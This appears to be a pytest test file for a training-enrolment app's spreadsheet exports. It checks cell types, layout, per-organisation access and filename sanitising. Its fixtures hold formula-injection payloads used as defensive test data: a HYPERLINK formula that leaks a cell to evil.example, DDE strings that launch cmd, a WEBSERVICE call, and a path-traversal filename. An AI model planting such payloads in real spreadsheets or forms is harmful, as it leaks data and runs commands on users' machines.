"""Exports opened back with a reader and checked cell by cell: typed XLSX cells, a frozen header,
widths that fit, the officer's organisations only, and no cell that can start a formula."""

from __future__ import annotations

import csv
import io
import random
from datetime import date, datetime, timedelta
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from core import nrn
from core.errors import DomainError
from core.models import Collaborator, Enrollment, EnrollmentState, TestResult, Training
from core.services import enrollment, exports
from core.services.access import officer_by_email, organisation_by_code
from core.services.collaborators import NewCollaborator, add_collaborator
from tests.conftest import TODAY, World

HOSTILE = {
    "surname": '=HYPERLINK("http://evil.example/?leak="&A1,"Dupont")',
    "given_names": "+cmd|' /C calc'!A0",
    "department": "@SUM(1+1)*cmd|' /C calc'!A0",
    "email": "-2+3@example.be",
}
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _xlsx(data: bytes) -> Any:
    return load_workbook(io.BytesIO(data)).active


def _csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


@pytest.fixture
def hostile(world: World) -> int:
    """A collaborator whose every text field is a formula, enrolled in BOSA-101."""
    with world.app.unit_of_work() as uow:
        person = add_collaborator(uow, None, NewCollaborator(
            nrn=nrn.generate(random.Random(5)), surname=HOSTILE["surname"],
            given_names=HOSTILE["given_names"], email=None, language="fr",
            organisation="BOSA", department=HOSTILE["department"]))
        person.email = HOSTILE["email"]
        officer = officer_by_email(uow, world.officer)
        enrollment.enroll(uow, officer, person.id, world.sessions["BOSA-101/a"])
        return person.id


def test_neutralise_follows_owasp() -> None:
    for value in ("=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", " =1", "  +1"):
        assert exports.neutralise(value).startswith("'"), value
    for value in ("Dupont", "Jean-Pierre", "O'Brien", "a=b", "1-2", ""):
        assert exports.neutralise(value) == value


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_hostile_names_never_become_formulas(world: World, hostile: int, fmt: str) -> None:
    with world.app.unit_of_work(readonly=True) as uow:
        officer = officer_by_email(uow, world.officer)
        files = [exports.participants(uow, officer, world.sessions["BOSA-101/a"], fmt),
                 exports.collaborator_report(uow, officer, hostile, fmt)]
    for name, data in files:
        if fmt == "csv":
            cells = [c for row in _csv(data) for c in row]
        else:
            sheet = _xlsx(data)
            assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row), name
            cells = [c.value for row in sheet.iter_rows() for c in row
                     if isinstance(c.value, str)]
        assert "'" + HOSTILE["surname"] in cells, name
        assert "'" + HOSTILE["given_names"] in cells
        assert not [c for c in cells if c.startswith(DANGEROUS)], name
    participants = files[0][1]
    if fmt == "csv":
        row = next(r for r in _csv(participants)[1:] if r[0].startswith("'="))
        assert row[3:5] == ["'" + HOSTILE["department"], "'" + HOSTILE["email"]]


def _report_world(world: World) -> int:
    """Dupont Marie: an option, an enrollment, a waiting list, a cancellation, two results."""
    person = world.people["dupont_marie"]
    with world.app.unit_of_work() as uow:
        officer = officer_by_email(uow, world.officer)
        enrollment.enroll(uow, officer, person, world.sessions["BOSA-101/a"], option=True)
        enrollment.enroll(uow, officer, person, world.sessions["DIG-101/a"])
        training = uow.session.scalars(select(Training).where(Training.code == "DIG-101")).one()
        uow.session.add_all([
            TestResult(collaborator_id=person, training_id=training.id,
                       taken_on=date(2026, 6, 2), score=84, max_score=100, passed=True),
            TestResult(collaborator_id=person, training_id=training.id,
                       taken_on=date(2026, 5, 2), score=41, max_score=100, passed=False)])
    with world.app.unit_of_work() as uow:
        officer = officer_by_email(uow, world.officer)
        dig = uow.session.scalars(select(Enrollment).where(
            Enrollment.collaborator_id == person,
            Enrollment.session_id == world.sessions["DIG-101/a"])).one()
        enrollment.unenroll(uow, officer, dig.id)
    return person


def test_collaborator_report_xlsx_cell_by_cell(world: World) -> None:
    person = _report_world(world)
    with world.app.unit_of_work(readonly=True) as uow:
        officer = officer_by_email(uow, world.officer)
        name, data = exports.collaborator_report(uow, officer, person, "xlsx")
    assert name == f"rapport-Dupont-Marie-{TODAY.isoformat()}.xlsx"
    sheet = _xlsx(data)
    assert sheet.title == "Rapport" and sheet.freeze_panes == "A2"
    header = [c.value for c in sheet[1]]
    assert header[:8] == ["nom", "prénoms", "organisation", "numéro de registre national",
                          "catégorie", "formation", "intitulé", "début"]
    rows = [[c.value for c in row] for row in sheet.iter_rows(min_row=2)]
    by_category = {r[4]: r for r in rows}
    assert set(by_category) == {"option", "annulation", "résultat de test"}
    option = by_category["option"]
    assert option[:4] == ["Dupont", "Marie", "BOSA", rows[0][3]]
    assert option[3].endswith("-xxx.xx")
    assert option[5:10] == ["BOSA-101", "Gestion du temps", datetime(2027, 3, 12),
                            datetime(2027, 3, 12), "Bruxelles"]
    assert option[10] == "option" and isinstance(option[11], datetime)
    assert sheet.cell(row=rows.index(option) + 2, column=8).number_format == "dd/mm/yyyy"
    results = [r for r in rows if r[4] == "résultat de test"]
    assert [(r[7], r[12], r[13], r[14]) for r in results] == [
        (datetime(2026, 5, 2), 41, 100, "non réussi"), (datetime(2026, 6, 2), 84, 100, "réussi")]
    assert by_category["annulation"][10] == "annulé"
    for index, title in enumerate(header):
        letter = sheet.cell(row=1, column=index + 1).column_letter
        longest = max(len(str(v if not isinstance(v, datetime) else "dd/mm/yyyy"))
                      for v in [title] + [r[index] for r in rows if r[index] is not None])
        assert sheet.column_dimensions[letter].width >= longest, title


def test_collaborator_report_csv_is_what_belgian_excel_opens(world: World) -> None:
    person = _report_world(world)
    with world.app.unit_of_work(readonly=True) as uow:
        officer = officer_by_email(uow, world.en_officer)
        name, data = exports.collaborator_report(uow, officer, person, "csv")
    assert name.endswith(".csv") and name.startswith("report-Dupont-Marie")
    rows = _csv(data)
    assert rows[0][0] == "surname" and len(rows) == 5
    option = next(r for r in rows if r[4] == "option")
    assert option[7] == "12/03/2027" and option[10] == "option"


def test_participants_only_the_officers_organisations(world: World) -> None:
    with world.app.unit_of_work() as uow:
        emma = officer_by_email(uow, world.en_officer)
        for key in ("peeters", "fin_only"):
            enrollment.enroll(uow, emma, world.people[key], world.sessions["DIG-101/a"])
    session = world.sessions["DIG-101/a"]
    with world.app.unit_of_work(readonly=True) as uow:
        sophie = officer_by_email(uow, world.officer)
        emma = officer_by_email(uow, world.en_officer)
        pieter = officer_by_email(uow, world.nl_officer)
        seen = {who.email: [r[0] for r in _csv(exports.participants(uow, who, session,
                                                                    "csv")[1])[1:]]
                for who in (sophie, emma)}
        name, data = exports.participants(uow, pieter, session, "xlsx")
        fin = organisation_by_code(uow, "FIN")
        operator = exports.participants(uow, None, session, "csv",
                                        organisation=fin)[1]
        with pytest.raises(DomainError) as refused:
            exports.participants(uow, sophie, session, "csv", organisation=fin)
        assert refused.value.code == "not_your_organisation"
        expired = officer_by_email(uow, world.expired_officer)
        with pytest.raises(DomainError):
            exports.participants(uow, expired, session, "csv")
    assert seen == {world.officer: ["Peeters"], world.en_officer: ["Peeters", "Vermeulen"]}
    assert [r[0] for r in _csv(operator)[1:]] == ["Vermeulen"]
    assert name == "ingeschrevenen-DIG-101-2027-01-15.xlsx"
    sheet = _xlsx(data)
    assert [c.value for c in sheet[1]][:3] == ["naam", "voornamen", "organisatie"]
    assert [c.value for c in sheet[2]][6] == "ingeschreven"
    assert sheet.freeze_panes == "A2"


def test_report_of_another_organisations_person_is_refused(world: World) -> None:
    with world.app.unit_of_work(readonly=True) as uow:
        sophie = officer_by_email(uow, world.officer)
        with pytest.raises(DomainError) as refused:
            exports.collaborator_report(uow, sophie, world.people["fin_only"], "xlsx")
        assert refused.value.code == "not_your_organisation"
        with pytest.raises(DomainError) as unknown:
            exports.collaborator_report(uow, sophie, world.people["peeters"], "pdf")
        assert unknown.value.code == "exports.unknown_format"


def test_overview_by_period_and_organisation(world: World) -> None:
    with world.app.unit_of_work() as uow:
        emma = officer_by_email(uow, world.en_officer)
        enrollment.enroll(uow, emma, world.people["fin_only"], world.sessions["FIN-201/a"])
    with world.app.unit_of_work(readonly=True) as uow:
        sophie = officer_by_email(uow, world.officer)
        emma = officer_by_email(uow, world.en_officer)
        mine = _xlsx(exports.overview(uow, sophie, "xlsx")[1])
        codes = [r[0].value for r in mine.iter_rows(min_row=2)]
        assert codes == ["DIG-101", "BOSA-101", "BOSA-101"]  # FIN-201 is FIN's on-demand
        name, data = exports.overview(uow, emma, "xlsx", start=date(2027, 1, 1),
                                      end=date(2027, 3, 31), organisation="FIN")
        assert name == "sessions-FIN-2027-01-01-2027-03-31.xlsx"
        sheet = _xlsx(data)
        header = [c.value for c in sheet[1]]
        rows = {r[0]: r for r in ([c.value for c in row] for row in sheet.iter_rows(min_row=2))}
        assert list(rows) == ["DIG-101", "FIN-201", "BOSA-101"]
        fin = rows["FIN-201"]
        assert fin[header.index("kind")] == "on demand"
        assert fin[header.index("reserved for")] == "FIN"
        assert fin[header.index("start")] == datetime(2027, 2, 1)
        assert (fin[header.index("capacity")], fin[header.index("seats taken")],
                fin[header.index("free seats")], fin[header.index("your people")]) == (10, 1, 9, 1)
        assert rows["BOSA-101"][header.index("your people")] == 0
        operator = _csv(exports.overview(uow, None, "csv", end=TODAY + timedelta(days=60))[1])
        assert operator[0][-1] == "liste d'attente" and [r[0] for r in operator[1:]] == ["DIG-101"]
        with pytest.raises(DomainError) as refused:
            exports.overview(uow, sophie, "csv", organisation="FIN")
        assert refused.value.code == "not_your_organisation"
        with pytest.raises(DomainError) as backwards:
            exports.overview(uow, sophie, "csv", start=date(2027, 2, 1), end=date(2027, 1, 1))
        assert backwards.value.code == "exports.bad_period"


def test_hostile_training_titles_and_places_too(world: World) -> None:
    with world.app.unit_of_work() as uow:
        training = uow.session.scalars(select(Training).where(Training.code == "DIG-101")).one()
        training.titles = {"fr": "=WEBSERVICE(\"http://evil.example\")"}
        training.sessions[0].place = "+Liège"
    with world.app.unit_of_work(readonly=True) as uow:
        sophie = officer_by_email(uow, world.officer)
        for fmt in ("csv", "xlsx"):
            data = exports.overview(uow, sophie, fmt)[1]
            cells = ([c for row in _csv(data) for c in row] if fmt == "csv" else
                     [c.value for row in _xlsx(data).iter_rows() for c in row
                      if isinstance(c.value, str)])
            assert "'=WEBSERVICE(\"http://evil.example\")" in cells and "'+Liège" in cells
            assert not [c for c in cells if c.startswith(DANGEROUS)]


def test_filenames_are_plain_ascii() -> None:
    assert exports.safe_filename("rapport-Müller-Jürgen/../x", "csv") == (
        "rapport-Muller-Jurgen-x.csv")
    assert exports.safe_filename("", "xlsx") == "export.xlsx"


def test_option_state_word_and_people_columns(world: World) -> None:
    """The participants export says what the chat says: state words of the catalogue."""
    with world.app.unit_of_work() as uow:
        officer = officer_by_email(uow, world.officer)
        enrollment.enroll(uow, officer, world.people["janssens"],
                          world.sessions["BOSA-101/b"], option=True)
    with world.app.unit_of_work(readonly=True) as uow:
        officer = officer_by_email(uow, world.officer)
        rows = _csv(exports.participants(uow, officer, world.sessions["BOSA-101/b"], "csv")[1])
        person = uow.session.get_one(Collaborator, world.people["janssens"])
    assert rows[1][:7] == ["Janssens", "Tom", "BOSA", "DG Test", person.email, "fr", "option"]
    assert rows[1][7] and rows[1][8] == TODAY.strftime("%d/%m/%Y")
    assert EnrollmentState.OPTION.value == "option"
